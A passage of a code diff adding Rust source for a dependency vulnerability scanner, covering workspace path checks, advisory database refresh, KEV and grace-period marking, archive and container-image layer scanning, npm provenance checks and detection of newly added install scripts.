+            Arc::new(clock::SystemClock)
+        };
+        Self::with_clock(workspace_root, config, clock)
+    }
+
+    fn with_clock(workspace_root: impl Into<PathBuf>, config: ScanConfig, clock: Arc<dyn Clock>) -> Self {
+        // Canonicalize once so every source can be checked against the real
+        // root, not whatever spelling Builder happened to send.
+        let workspace_root = workspace_root.into();
+        let workspace_root = fs::canonicalize(&workspace_root).unwrap_or(workspace_root);
+        let started = Instant::now();
+
+        SecurityScanner {
+            sources: advisories::configured(&config, &workspace_root),
+            db_cache: cache::cache_root(&workspace_root, &config.report_dir).join("db"),
+            budget: Budget::new(&config, started),
+            profiler: Profiler::new(config.profile),
+            workspace_root,
+            config,
+            vulnerabilities: Vec::new(),
+            skipped: Vec::new(),
+            not_scanned: Vec::new(),
+            outcomes: Vec::new(),
+            internal_packages: Vec::new(),
+            scanned_files: Vec::new(),
+            images: Vec::new(),
+            projects: BTreeSet::new(),
+            go_imports: None,
+            import_hints: None,
+            declared: Vec::new(),
+            recommendations: Vec::new(),
+            refreshed: Vec::new(),
+            databases: Vec::new(),
+            shared: None,
+            share_advisories: false,
+            query_cache: None,
+            suppressions: Vec::new(),
+            suppressed: Vec::new(),
+            new_findings: 0,
+            baseline: None,
+            regression_baseline: None,
+            lifecycle: None,
+            changed_files: None,
+            outputs: Vec::new(),
+            report: None,
+            target_name: None,
+            root: None,
+            ecosystems: None,
+            started_at: clock.now(),
+            started,
+            clock,
+            phases: PhaseTimings::default(),
+            timed_out: Vec::new(),
+            errors: Vec::new(),
+            allowlist_error: None,
+            tracer: Tracer::disabled(),
+        }
+    }
+
+    fn time_out(&mut self, phase: Phase, deadline: Deadline, completed: String, logs: &mut Vec<String>) {
+        logs.push(format!(
+            "  ⏱ {} phase stopped: {} exceeded ({})",
+            phase.as_str(),
+            deadline.limit(),
+            completed
+        ));
+        self.errors.push(ScanError::ScanTimedOut {
+            phase: phase.as_str(),
+            limit: deadline.limit(),
+            completed: completed.clone(),
+        });
+        self.timed_out.push(TimedOutPhase {
+            phase: phase.as_str(),
+            limit: deadline.limit(),
+            completed,
+        });
+    }
+
+    /// How many of the files considered came to each extraction outcome.
+    fn extraction_counts(&self) -> BTreeMap<&'static str, usize> {
+        let mut counts = BTreeMap::new();
+        for file in &self.outcomes {
+            *counts.entry(file.outcome.kind()).or_insert(0) += 1;
+        }
+        counts
+    }
+
+    fn record_outcome(&mut self, path: &str, outcome: ExtractionOutcome) {
+        self.outcomes.push(FileOutcome {
+            path: path.to_string(),
+            outcome,
+        });
+    }
+
+    fn skip(&mut self, path: &str, (why, reason): (unscanned::Reason, String), logs: &mut Vec<String>) {
+        logs.push(format!("  ⚠ Skipped {}: {}", path, reason));
+        self.not_scanned.push(NotScanned::new(path, why, reason.as_str()));
+        self.skipped.push(SkippedFile {
+            path: path.to_string(),
+            reason,
+        });
+    }
+
+    /// Narrow the ecosystems scanned to those of the `ecosystems` setting or,
+    /// without one, to those the target's language and type imply. Logs what
+    /// was considered and why.
+    fn consider_ecosystems(&mut self, language: Option<&str>, kind: Option<&str>) -> Vec<String> {
+        let mut logs = Vec::new();
+        let setting = &self.config.ecosystems;
+        let (considered, why) = if setting.iter().any(|e| e == "all") {
+            (None, "ecosystems setting".to_string())
+        } else if !setting.is_empty() {
+            let mut considered = Vec::new();
+            for name in setting {
+                match Ecosystem::named(name) {
+                    Some(ecosystem) => considered.push(ecosystem),
+                    None => logs.push(format!("  ⚠ Unknown ecosystem '{}' in ecosystems", name)),
+                }
+            }
+            (Some(considered), "ecosystems setting".to_string())
+        } else {
+            let hints = [
+                ("language", language, language.and_then(ecosystems::for_language)),
+                ("type", kind, kind.and_then(ecosystems::for_target_type)),
+            ];
+            let hinted: Vec<_> = hints.iter().filter(|(.., implied)| implied.is_some()).collect();
+            if hinted.is_empty() {
+                let given: Vec<String> =
+                    hints.iter().filter_map(|(hint, value, _)| Some(format!("{} '{}'", hint, (*value)?))).collect();
+                let why = if given.is_empty() {
+                    "no language or type hint".to_string()
+                } else {
+                    format!("{} implies no ecosystem", given.join(" and "))
+                };
+                (None, why)
+            } else {
+                let considered = hinted.iter().flat_map(|(.., implied)| implied.unwrap_or_default().iter().copied());
+                let why = hinted.iter().map(|(hint, value, _)| format!("{} '{}'", hint, value.unwrap_or_default()));
+                (Some(considered.collect()), format!("{} hint", why.collect::<Vec<_>>().join(" and ")))
+            }
+        };
+
+        let names = match &considered {
+            Some(ecosystems) => ecosystems.iter().map(|e| e.as_str()).collect::<Vec<_>>().join(", "),
+            None => "all".to_string(),
+        };
+        logs.push(format!("  Ecosystems considered: {} ({})", names, why));
+        if considered.is_some() && setting.is_empty() {
+            logs.push("  Set ecosystems = [\"all\"] to scan every ecosystem's files".to_string());
+        }
+        self.ecosystems = considered;
+        logs
+    }
+
+    /// Whether files and advisories of `ecosystem` are part of this scan.
+    fn considers(&self, ecosystem: Ecosystem) -> bool {
+        self.ecosystems.as_ref().is_none_or(|considered| considered.contains(&ecosystem))
+    }
+
+    /// Resolve a source entry to a file inside the workspace.
+    ///
+    /// The path is canonicalized so `..` segments and symlinks are followed
+    /// to their real target, which must stay under the workspace root unless
+    /// `allow_external_paths` is set. Symlink cycles surface as a
+    /// canonicalization error and are skipped like any other unreadable file.
+    /// Returns `Ok(None)` for files that don't exist.
+    fn resolve_source(&self, file_path: &str) -> Result<Option<PathBuf>, (unscanned::Reason, String)> {
+        let path = paths::join_source(&self.workspace_root, file_path);
+
+        let resolved = match fs::canonicalize(&path) {
+            Ok(resolved) => resolved,
+            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
+            Err(e) => return Err((unscanned::Reason::Unreadable, format!("cannot resolve path: {}", e))),
+        };
+
+        if !resolved.starts_with(&self.workspace_root) && !self.config.allow_external_paths {
+            return Err((
+                unscanned::Reason::OutsideWorkspace,
+                format!(
+                    "resolves to {} outside the workspace root (set allow_external_paths to permit)",
+                    resolved.display()
+                ),
+            ));
+        }
+
+        Ok(Some(resolved))
+    }
+
+    /// Scan `sources` for known vulnerabilities, streaming the findings to
+    /// `findings_stream` and, as `plugin.finding` notifications, to
+    /// `notifications`.
+    fn scan_dependencies(&mut self, sources: &[String], notifications: Option<&mut dyn Write>) -> Vec<String> {
+        let mut logs = vec![
+            "[Security] Starting dependency vulnerability scan".to_string(),
+            format!("  Scanning {} source files", sources.len()),
+        ];
+
+        // Load vulnerability database
+        let span = self.tracer.start("security.db_refresh");
+        self.prepare_sources(sources);
+        let errors = self.errors.len();
+        let mark = self.profiler.mark();
+        let db_lock = match self.shared.take() {
+            Some(shared) => self.adopt(shared, &mut logs),
+            None => self.load_vulnerability_db(&mut logs),
+        };
+        self.profiler.phase("db_refresh", mark);
+        let unavailable: Vec<String> = self.errors[errors..]
+            .iter()
+            .filter_map(|e| match e {
+                ScanError::DbUnreachable(e) => Some(e.clone()),
+                _ => None,
+            })
+            .collect();
+        self.tracer.end(span, || vec![("security.databases", Attr::from(self.databases.len()))]);
+        self.load_suppressions(&mut logs);
+
+        // Scan for known vulnerabilities
+        let path = self.config.findings_stream.as_ref().map(|path| self.workspace_root.join(path));
+        let mut stream = FindingStream::open(path.as_deref(), notifications, self.target_name.as_deref(), &mut logs)
+            .root(self.root.as_deref());
+        let found_vulnerabilities = self.scan_for_vulnerabilities(sources, &mut stream, &mut logs);
+        if let Some(path) = stream.finish() {
+            self.outputs.push(path.display().to_string());
+        }
+        log_findings(&found_vulnerabilities, &mut logs);
+        if !self.not_scanned.is_empty() {
+            logs.push(format!("\n  ⚠ Not scanned ({} files):", self.not_scanned.len()));
+            for entry in &self.not_scanned {
+                logs.push(format!("    - {}: {}", entry.path, entry.detail));
+            }
+        }
+
+        self.vulnerabilities = found_vulnerabilities;
+        self.mark_known_exploited(&mut logs);
+        self.mark_in_grace(&mut logs);
+        self.fingerprint_findings();
+        if let Some(root) = &self.root {
+            for vuln in &mut self.vulnerabilities {
+                vuln.root = Some(root.clone());
+            }
+        }
+        self.lint_severity_overrides(&mut logs);
+        self.log_degradation(&mut logs);
+        if self.share_advisories {
+            self.shared = Some(SharedAdvisories {
+                sources: std::mem::take(&mut self.sources),
+                refreshed: self.refreshed.clone(),
+                databases: self.databases.clone(),
+                unavailable,
+                lock: db_lock,
+            });
+        }
+        logs
+    }
+
+    /// Restrict the advisory sources to the ecosystems considered, and have
+    /// them load those of the dependency files among `sources` first.
+    fn prepare_sources(&mut self, sources: &[String]) {
+        if let Some(considered) = &self.ecosystems {
+            for source in &mut self.sources {
+                source.restrict(considered);
+            }
+        }
+        let mut needed: Vec<Ecosystem> = Vec::new();
+        for source in sources {
+            let normalized = paths::normalize_separators(&paths::workspace_relative(&self.workspace_root, source));
+            let scanner = ecosystems::detect_overridden(&normalized, &self.config.ecosystem_overrides).0;
+            if let Some(ecosystem) = scanner.map(|scanner| scanner.ecosystem()) {
+                if self.considers(ecosystem) && !needed.contains(&ecosystem) {
+                    needed.push(ecosystem);
+                }
+            }
+        }
+        for source in &mut self.sources {
+            source.prioritize(&needed);
+        }
+    }
+
+    /// What a scan of `sources` would cover, for `dry_run`: their
+    /// dependency files found and read as a scan reads them, the advisory
+    /// data it would refresh and what would decide it. Nothing is
+    /// refreshed, matched or written.
+    fn plan(&mut self, sources: &[String]) -> (plan::Plan, Vec<String>) {
+        let mut logs = vec![
+            "[Security] Planning dependency vulnerability scan (dry_run)".to_string(),
+            format!("  Considering {} source files", sources.len()),
+        ];
+        self.prepare_sources(sources);
+        let extraction = self.extract_sources(sources, &mut logs);
+        let files = self
+            .scanned_files
+            .iter()
+            .map(|file| plan::PlannedFile {
+                path: file.path.clone(),
+                ecosystem: ecosystems::detect_overridden(&file.path, &self.config.ecosystem_overrides)
+                    .0
+                    .map_or("", |scanner| scanner.ecosystem().as_str()),
+                size: file.size,
+                dependencies: file.dependencies,
+            })
+            .collect();
+        let databases = self.sources.iter().filter_map(|source| source.estimate()).collect();
+        let plan = plan::Plan::new(files, &extraction.dependencies, databases, plan::policies(&self.config));
+        plan.log(&mut logs);
+        if !self.not_scanned.is_empty() {
+            logs.push(format!("\n  ⚠ Would not scan ({} files):", self.not_scanned.len()));
+            for entry in &self.not_scanned {
+                logs.push(format!("    - {}: {}", entry.path, entry.detail));
+            }
+        }
+        (plan, logs)
+    }
+
+    /// Match against the advisory data an earlier root of the invocation
+    /// refreshed, rather than refreshing it again. Returns the shared lock
+    /// on the cache, as `load_vulnerability_db` does.
+    fn adopt(&mut self, shared: SharedAdvisories, logs: &mut Vec<String>) -> Option<lock::CacheLock> {
+        logs.push(format!(
+            "  Matching against the {} advisory databases refreshed for the first root",
+            shared.databases.len()
+        ));
+        for e in shared.unavailable {
+            logs.push(format!("  ⚠ Advisory source unavailable: {}", e));
+            self.errors.push(ScanError::DbUnreachable(e));
+        }
+        self.sources = shared.sources;
+        self.refreshed = shared.refreshed;
+        self.databases = shared.databases;
+        shared.lock
+    }
+
+    /// With `profile`, list the slowest phases and files at debug verbosity
+    /// and write the scan's profile, named for `name`.
+    fn write_profile(&self, name: &str, logs: &mut Vec<String>) {
+        if self.config.is_debug() {
+            self.profiler.log_slowest(logs);
+        }
+        let dir = profile::profiles_dir(&cache::cache_root(&self.workspace_root, &self.config.report_dir));
+        match self.profiler.write(&dir, name) {
+            Some(Ok(path)) => logs.push(format!("  Scan profile written to {}", path.display())),
+            Some(Err(e)) => logs.push(format!("  ⚠ Could not write the scan profile: {}", e)),
+            None => {}
+        }
+    }
+
+    /// Make a degraded scan impossible to miss in the logs, whichever way
+    /// `on_error` decides it.
+    fn log_degradation(&self, logs: &mut Vec<String>) {
+        let reasons = self.degraded_reasons();
+        if reasons.is_empty() {
+            return;
+        }
+        if self.config.on_error == "closed" {
+            logs.push("\n  ⛔ Scan degraded, failing it (on_error = \"closed\"):".to_string());
+        } else {
+            logs.push("\n  ⚠ SCAN DEGRADED: findings may be incomplete and the build proceeds anyway".to_string());
+            logs.push("  ⚠ Set on_error = \"closed\" to fail instead. Reasons:".to_string());
+        }
+        for reason in reasons {
+            logs.push(format!("    - {}", reason));
+        }
+    }
+
+    /// Warn about `ecosystem_overrides` entries naming a path that no longer
+    /// exists. Globs aren't checked: they may be meant for other targets.
+    fn lint_ecosystem_overrides(&self, logs: &mut Vec<String>) {
+        for path in self.config.ecosystem_overrides.keys().filter(|path| !globs::is_glob(path)) {
+            if !paths::join_source(&self.workspace_root, path).exists() {
+                logs.push(format!("  ⚠ ecosystem_overrides: '{}' does not exist; remove it if it is stale", path));
+            }
+        }
+    }
+
+    /// Warn about `severity_overrides` entries no finding matched, so stale
+    /// ones get cleaned up.
+    fn lint_severity_overrides(&self, logs: &mut Vec<String>) {
+        let used: BTreeSet<&str> = self
+            .vulnerabilities
+            .iter()
+            .chain(&self.suppressed)
+            .filter_map(|v| v.severity_override.as_ref())
+            .map(|o| o.overridden_by.as_str())
+            .collect();
+        for key in self.config.severity_overrides.keys().filter(|key| !used.contains(key.as_str())) {
+            logs.push(format!("  ⚠ severity_overrides: '{}' matched no finding; remove it if it is stale", key));
+        }
+    }
+
+    fn fingerprint_findings(&mut self) {
+        for vuln in self.vulnerabilities.iter_mut().filter(|v| v.fingerprint.is_empty()) {
+            vuln.fingerprint = vuln.compute_fingerprint();
+        }
+    }
+
+    /// Flag the findings whose id or alias is in the `kev_catalog`.
+    fn mark_known_exploited(&mut self, logs: &mut Vec<String>) {
+        let Some(catalog) = &self.config.kev_catalog else {
+            return;
+        };
+        let ids = match kev::load(&paths::join_source(&self.workspace_root, catalog)) {
+            Ok(ids) => ids,
+            Err(e) => {
+                logs.push(format!("  ⚠ Ignoring unreadable KEV catalog: {}", e));
+                return;
+            }
+        };
+        let mut marked = 0;
+        for vuln in &mut self.vulnerabilities {
+            if !vuln.kev && (ids.contains(&vuln.id) || vuln.aliases.iter().any(|alias| ids.contains(alias))) {
+                vuln.kev = true;
+                marked += 1;
+            }
+        }
+        if marked > 0 {
+            logs.push(format!("  ⚠ {} findings are known to be exploited (CISA KEV)", marked));
+        }
+    }
+
+    /// With `grace_period`, set `grace_until` on the findings whose advisory
+    /// was published within the period and has no fix, and log each; the
+    /// others' is cleared. Advisories without a publication date get none.
+    fn mark_in_grace(&mut self, logs: &mut Vec<String>) {
+        let period = self.config.grace_period();
+        let now = self.clock.now();
+        for vuln in &mut self.vulnerabilities {
+            vuln.grace_until = None;
+            let (Some(period), None) = (period, &vuln.fixed_in) else {
+                continue;
+            };
+            let Some(published) = vuln.published.as_deref().and_then(report::parse_timestamp) else {
+                continue;
+            };
+            let until = published + period;
+            if until > now {
+                let until = report::format_timestamp(until);
+                logs.push(format!(
+                    "  ⚠ {} in {} {} has no fix yet; it only warns until {} (grace_period)",
+                    vuln.id, vuln.package, vuln.version, until
+                ));
+                vuln.grace_until = Some(until);
+            }
+        }
+    }
+
+    /// Extract the archives among a build's outputs into `dir`, with
+    /// [`archives::extract`]. Returns the outputs with each archive replaced
+    /// by its extraction directory, and findings for the archives that look
+    /// tampered with.
+    #[cfg(feature = "archive-scan")]
+    fn extract_archives(
+        &self,
+        outputs: &[String],
+        dir: &Path,
+        logs: &mut Vec<String>,
+    ) -> (Vec<String>, Vec<Vulnerability>) {
+        let limits = archives::Limits::of(&self.config);
+        let mut extracted = Vec::new();
+        let mut findings = Vec::new();
+        for output in outputs {
+            let output = paths::normalize_separators(output);
+            let path = paths::join_source(&self.workspace_root, &output);
+            if !archives::is_archive(&output) || !path.is_file() {
+                extracted.push(output);
+                continue;
+            }
+            let dest = dir.join(summary::file_stem(&output));
+            let extraction = archives::extract(&path, &dest, limits);
+            let mut line = format!("  Extracted {}: {} files, {} bytes", output, extraction.files, extraction.bytes);
+            if extraction.skipped > 0 {
+                line.push_str(&format!(", {} links or unsupported entries skipped", extraction.skipped));
+            }
+            logs.push(line);
+            if let Some(e) = &extraction.error {
+                logs.push(format!("  ⚠ {} could not be extracted completely: {}", output, e));
+            }
+            findings.extend(
+                archives::findings(&output, &extraction.violations)
+                    .into_iter()
+                    .filter(|v| !self.config.is_ignored(&v.id)),
+            );
+            extracted.push(paths::workspace_relative(&self.workspace_root, &dest.display().to_string()));
+        }
+        (extracted, findings)
+    }
+
+    /// Open the container images among a build's outputs, given with what
+    /// [`Self::extract_archives`] made of them, and extract their layers
+    /// into `dir` with the archive limits; `archive_max_total_size` holds
+    /// for all of an image's layers together. Returns the other outputs.
+    ///
+    /// Absolute links are how an image links within its own filesystem, so
+    /// links in layers aren't findings; tampering the other limits catch is.
+    #[cfg(feature = "archive-scan")]
+    fn open_images(
+        &mut self,
+        outputs: &[String],
+        extracted: Vec<String>,
+        dir: &Path,
+        tampered: &mut Vec<Vulnerability>,
+        logs: &mut Vec<String>,
+    ) -> Vec<String> {
+        let mut others = Vec::new();
+        for (output, extracted) in outputs.iter().zip(extracted) {
+            let path = paths::join_source(&self.workspace_root, &extracted);
+            if !path.is_dir() || !images::is_image(&path) {
+                others.push(extracted);
+                continue;
+            }
+            let output = paths::normalize_separators(output);
+            let mut image = match images::open(&path, &output) {
+                Ok(image) => image,
+                Err(e) => {
+                    logs.push(format!("  ⚠ {} looks like a container image but could not be read: {}", output, e));
+                    continue;
+                }
+            };
+
+            let mut limits = archives::Limits::of(&self.config);
+            let (mut files, mut bytes) = (0, 0);
+            let layers_dir = dir.join(format!("{}.layers", summary::file_stem(&output)));
+            for (i, layer) in image.layers.iter_mut().enumerate() {
+                layer.dir = layers_dir.join(i.to_string());
+                let extraction = archives::extract_layer(&layer.blob, &layer.dir, limits);
+                files += extraction.files;
+                bytes += extraction.bytes;
+                limits.total_bytes -= extraction.bytes.min(limits.total_bytes);
+                if let Some(e) = &extraction.error {
+                    let digest = &layer.digest;
+                    logs.push(format!("  ⚠ Layer {} of {} could not be extracted completely: {}", digest, output, e));
+                }
+                let violations: Vec<archives::Violation> = extraction
+                    .violations
+                    .into_iter()
+                    .filter(|v| !matches!(v, archives::Violation::LinkOutside { .. }))
+                    .collect();
+                let capped = violations.iter().any(|v| {
+                    matches!(v, archives::Violation::TooLarge { .. } | archives::Violation::TooManyEntries { .. })
+                });
+                tampered.extend(
+                    archives::findings(&format!("{} layer {}", output, layer.digest), &violations)
+                        .into_iter()
+                        .filter(|v| !self.config.is_ignored(&v.id)),
+                );
+                if capped {
+                    break;
+                }
+            }
+            let named = image.reference.as_ref().map(|r| format!(" ({})", r)).unwrap_or_default();
+            logs.push(format!(
+                "  Image {}{}: {} layers, {} files, {} bytes",
+                output,
+                named,
+                image.layers.len(),
+                files,
+                bytes
+            ));
+            let dirs: Vec<PathBuf> = image.layers.iter().map(|layer| layer.dir.clone()).collect();
+            image.files = images::files(&dirs, |path| {
+                ecosystems::detect(path).is_some() || artifacts::OS_RELEASE.contains(&path)
+            });
+            self.images.push(image);
+        }
+        others
+    }
+
+    /// A build's outputs as they are, with a warning for each archive or
+    /// image a build without `archive-scan` doesn't look into.
+    #[cfg(not(feature = "archive-scan"))]
+    fn unextracted(&self, outputs: &[String], logs: &mut Vec<String>) -> Vec<String> {
+        let mut others = Vec::new();
+        for output in outputs {
+            let output = paths::normalize_separators(output);
+            let path = paths::join_source(&self.workspace_root, &output);
+            if archives::is_archive(&output) || path.is_dir() && images::is_image(&path) {
+                logs.push(format!("  ⚠ {} not scanned: this build has no `archive-scan` feature", output));
+                continue;
+            }
+            others.push(output);
+        }
+        others
+    }
+
+    /// The packages in an image's final filesystem, each with the layer that
+    /// introduced it: the lowest since which every version of its file
+    /// lists it. Files are named `<output>!/<path in the image>`. `None`
+    /// when time ran out.
+    fn image_dependencies(
+        &mut self,
+        image: &images::Image,
+        deadline: Deadline,
+        logs: &mut Vec<String>,
+    ) -> Option<Vec<(Dependency, usize)>> {
+        let os_release = artifacts::OS_RELEASE.iter().find_map(|path| {
+            let file = image.files.iter().find(|file| file.path == *path)?;
+            fsutil::read_to_string(image.layers[*file.layers.last()?].dir.join(path)).ok()
+        });
+        let mut found = Vec::new();
+        for file in &image.files {
+            let (Some(scanner), Some((&top, earlier))) = (ecosystems::detect(&file.path), file.layers.split_last())
+            else {
+                continue;
+            };
+            let extracted = image.layers[top].dir.join(&file.path);
+            let source = paths::workspace_relative(&self.workspace_root, &extracted.display().to_string());
+            let shown = format!("{}!/{}", image.output, file.path);
+            let scanned = self.scanned_files.len();
+            let deps = self.extract_dependencies(&source, (scanner, None), deadline, logs)?;
+            if let Some(scanned) = self.scanned_files.get_mut(scanned) {
+                scanned.path = shown.clone();
+            }
+            let versions: Vec<Option<BTreeSet<(String, String)>>> = earlier
+                .iter()
+                .map(|&layer| {
+                    let path = image.layers[layer].dir.join(&file.path);
+                    images::declared(scanner, &path, self.config.max_file_size)
+                })
+                .collect();
+            let release = os_release.as_deref().and_then(|content| artifacts::release(content, scanner.ecosystem()));
+            logs.push(format!("    {}: {} packages", shown, deps.len()));
+            for dep in deps {
+                let key = (dep.name.clone(), dep.version.clone());
+                let since = versions
+                    .iter()
+                    .rposition(|listed| !listed.as_ref().is_some_and(|listed| listed.contains(&key)))
+                    .map_or(0, |unlisted| unlisted + 1);
+                let release = release.clone().or_else(|| dep.release.clone());
+                found.push((
+                    Dependency {
+                        file: shown.clone(),
+                        release,
+                        ..dep
+                    },
+                    file.layers[since],
+                ));
+            }
+        }
+        Some(found)
+    }
+
+    /// Log each image's findings by the layer that introduced them.
+    fn log_image_layers(&self, logs: &mut Vec<String>) {
+        for image in self.images.iter().filter(|image| image.layers.iter().any(|layer| layer.findings > 0)) {
+            logs.push(format!("  Findings in {} by layer:", image.output));
+            for (i, layer) in image.layers.iter().enumerate().filter(|(_, layer)| layer.findings > 0) {
+                let digest = layer.digest.get(..19).unwrap_or(&layer.digest);
+                let step = layer.created_by.as_deref().map(|step| format!(", created by {}", step)).unwrap_or_default();
+                logs.push(format!("    Layer {} {}: {} findings{}", i + 1, digest, layer.findings, step));
+            }
+        }
+    }
+
+    /// Scan the OS package databases among a build's outputs, including
+    /// those in archives, which are extracted for the scan and removed after
+    /// it, and the package databases and dependency files of the container
+    /// images among them.
+    ///
+    /// Advisory sources are only loaded when there is a database to scan.
+    fn scan_artifacts(&mut self, outputs: &[String]) -> Vec<String> {
+        let dir = cache::cache_root(&self.workspace_root, &self.config.report_dir).join("archives");
+        let mut logs = self.scan_artifacts_in(outputs, &dir);
+        if let Err(e) = fsutil::remove_dir_all(&dir) {
+            if e.kind() != io::ErrorKind::NotFound {
+                logs.push(format!("  ⚠ Could not remove extracted archives in {}: {}", dir.display(), e));
+            }
+        }
+        logs
+    }
+
+    fn scan_artifacts_in(&mut self, outputs: &[String], archives_dir: &Path) -> Vec<String> {
+        let mut logs = Vec::new();
+        #[cfg(feature = "archive-scan")]
+        let (outputs, tampered) = {
+            let (extracted, mut tampered) = self.extract_archives(outputs, archives_dir, &mut logs);
+            (self.open_images(outputs, extracted, archives_dir, &mut tampered, &mut logs), tampered)
+        };
+        #[cfg(not(feature = "archive-scan"))]
+        let (outputs, tampered) = (self.unextracted(outputs, &mut logs), Vec::new());
+        #[cfg(not(feature = "archive-scan"))]
+        let _ = archives_dir;
+        let dbs = artifacts::package_dbs(&self.workspace_root, &outputs);
+        let image_files = self.images.iter().flat_map(|image| &image.files);
+        let image_ecosystems: Vec<Ecosystem> =
+            image_files.filter_map(|file| Some(ecosystems::detect(&file.path)?.ecosystem())).collect();
+        if dbs.is_empty() && image_ecosystems.is_empty() {
+            if !tampered.is_empty() {
+                log_findings(&tampered, &mut logs);
+                self.vulnerabilities = tampered;
+            }
+            return logs;
+        }
+        if !dbs.is_empty() {
+            logs.push(format!("  Scanning {} OS package databases in the build outputs", dbs.len()));
+        }
+
+        let mut needed: Vec<Ecosystem> = Vec::new();
+        for ecosystem in dbs.iter().map(|db| db.ecosystem).chain(image_ecosystems) {
+            if !needed.contains(&ecosystem) {
+                needed.push(ecosystem);
+            }
+        }
+        for source in &mut self.sources {
+            source.prioritize(&needed);
+        }
+        let _db_lock = self.load_vulnerability_db(&mut logs);
+        self.load_suppressions(&mut logs);
+
+        let deadline = self.budget.start(Phase::Extract);
+        let mut packages = Vec::new();
+        let mut read_all = true;
+        for (read, db) in dbs.iter().enumerate() {
+            let Some(scanner) = ecosystems::detect(&db.source) else {
+                continue;
+            };
+            let Some(found) = self.extract_dependencies(&db.source, (scanner, None), deadline, &mut logs) else {
+                let completed = format!("{} of {} package databases read", read, dbs.len());
+                self.time_out(Phase::Extract, deadline, completed, &mut logs);
+                read_all = false;
+                break;
+            };
+            let release = match &db.release {
+                Some(release) => format!("{}:{}", db.ecosystem.as_str(), release),
+                None => format!("{}, release unknown", db.ecosystem.as_str()),
+            };
+            logs.push(format!("    {}: {} packages ({})", db.source, found.len(), release));
+            packages.extend(found.into_iter().map(|dep| Dependency {
+                release: db.release.clone(),
+                ..dep
+            }));
+        }
+
+        let images = std::mem::take(&mut self.images);
+        let mut introduced: HashMap<(String, String, String), (usize, usize)> = HashMap::new();
+        for (i, image) in images.iter().enumerate().take_while(|_| read_all) {
+            let Some(found) = self.image_dependencies(image, deadline, &mut logs) else {
+                let completed = format!("{} of {} images read", i, images.len());
+                self.time_out(Phase::Extract, deadline, completed, &mut logs);
+                break;
+            };
+            for (dep, layer) in found {
+                introduced.insert((dep.file.clone(), dep.name.clone(), dep.version.clone()), (i, layer));
+                packages.push(dep);
+            }
+        }
+        self.images = images;
+
+        let mut found_vulnerabilities = tampered;
+        found_vulnerabilities.extend(self.match_dependencies(&packages, &mut FindingStream::default(), &mut logs));
+        for vuln in &mut found_vulnerabilities {
+            let key = (vuln.file.clone().unwrap_or_default(), vuln.package.clone(), vuln.version.clone());
+            if let Some(&(image, layer)) = introduced.get(&key) {
+                let layer = &mut self.images[image].layers[layer];
+                layer.findings += 1;
+                vuln.layer = Some(layer.digest.clone());
+            }
+        }
+        log_findings(&found_vulnerabilities, &mut logs);
+        self.log_image_layers(&mut logs);
+        self.vulnerabilities = found_vulnerabilities;
+        logs
+    }
+
+    /// Check the npm packages in `node_modules` and `package_cache` with
+    /// [`provenance::verify`], adding its findings to the scan's.
+    fn verify_npm_packages(&mut self, package_cache: Option<&str>) -> Vec<String> {
+        let mut logs = Vec::new();
+        let mut packages = provenance::installed(&self.workspace_root);
+        if let Some(dir) = package_cache {
+            packages.extend(provenance::cached(&paths::join_source(&self.workspace_root, dir), &mut logs));
+        }
+        if packages.is_empty() {
+            return logs;
+        }
+        logs.push(format!("  Verifying {} npm packages", packages.len()));
+
+        let cache = cache::cache_root(&self.workspace_root, &self.config.report_dir).join("npm");
+        let found: Vec<Vulnerability> = provenance::verify(&packages, &self.config, &cache, &mut logs)
+            .into_iter()
+            .filter(|v| !self.config.is_ignored(&v.id))
+            .collect();
+        log_findings(&found, &mut logs);
+        self.vulnerabilities.extend(found);
+        logs
+    }
+
+    /// Report the packages under the workspace root and the output
+    /// directories that gained an install or build script since the
+    /// target's previous build. The first build only records the baseline.
+    fn check_install_scripts(&mut self, outputs: &[String]) -> Vec<String> {
+        let mut logs = Vec::new();
+        let mut dirs = vec![String::new()];
+        dirs.extend(
+            outputs
+                .iter()
+                .map(|output| paths::normalize_separators(output))
+                .filter(|output| paths::join_source(&self.workspace_root, output).is_dir()),
+        );
+        let current = scripts::find(&self.workspace_root, &dirs);
+        let target = self.target_name.as_deref().unwrap_or("workspace");
+        let dir = scripts::baselines_dir(&cache::cache_root(&self.workspace_root, &self.config.report_dir));
+        let lock_timeout = Duration::from_secs(self.config.cache_lock_timeout_secs);
+        let _history_lock =
+            lock::acquire(&dir, lock::Mode::Exclusive, "updating install script baselines", lock_timeout, &mut logs);
+        let previous = match scripts::load_baseline(&dir, target) {
+            Ok(previous) => previous,
+            Err(e) => {
+                logs.push(format!("  ⚠ Ignoring unreadable install script baseline: {}", e));
+                None
+            }
+        };
+        if let Err(e) = scripts::save_baseline(&dir, target, &current) {
+            logs.push(format!("  ⚠ Failed to record install scripts: {}", e));
+        }
+        let Some(previous) = previous else {
+            return logs;
+        };
+
+        let found: Vec<Vulnerability> = scripts::added(&previous, &current)
+            .into_iter()
+            .filter(|v| !self.config.is_ignored(&v.id))
+            .collect();
+        if !found.is_empty() {
+            logs.push(format!("  {} dependencies added install or build scripts", found.len()));
+            log_findings(&found, &mut logs);
+        }
+        self.vulnerabilities.extend(found);
+        logs
+    }
+
+    /// Refresh the advisory sources, holding the advisory cache's exclusive
+    /// lock while any of them writes to it.
+    ///
+    /// Returns the shared lock to hold while the refreshed data is queried,
+    /// so no other scan replaces it meanwhile.
+    fn load_vulnerability_db(&mut self, logs: &mut Vec<String>) -> Option<lock::CacheLock> {
+        if self.sources.is_empty() {
+            logs.push(
+                "  ⚠ No advisory source configured; set db_path, or demo_db = true to try the built-in demo data"
+                    .to_string(),
+            );
+        }
+        let cache = self.db_cache.clone();
+        let lock_timeout = Duration::from_secs(self.config.cache_lock_timeout_secs);
+        let caching = self.sources.iter().any(|source| source.caches());
+        let refreshing = if caching {
+            lock::acquire(&cache, lock::Mode::Exclusive, "refreshing the advisory database", lock_timeout, logs)
+        } else {
+            None
+        };
+        // A refresh abandoned on its thread keeps the lock until it ends
+        let refreshing = Arc::new(refreshing);
+        let deadline = self.budget.start(Phase::DbRefresh);
+        let now = self.clock.now();
+        let pending = std::mem::take(&mut self.sources);
+        let total = pending.len();
+        let mut timed_out = false;
+        for (refreshed, mut source) in pending.into_iter().enumerate() {
+            // Sources that didn't get to refresh are left out of the scan
+            let cache = cache.clone();
+            let refreshing = Arc::clone(&refreshing);
+            let done = if deadline.expired() {
+                None
+            } else {
+                budget::run_until(deadline, move || {
+                    let snapshot = source.refresh(&cache, now);
+                    drop(refreshing);
+                    (source, snapshot)
+                })
+            };
+            let Some((source, snapshot)) = done else {
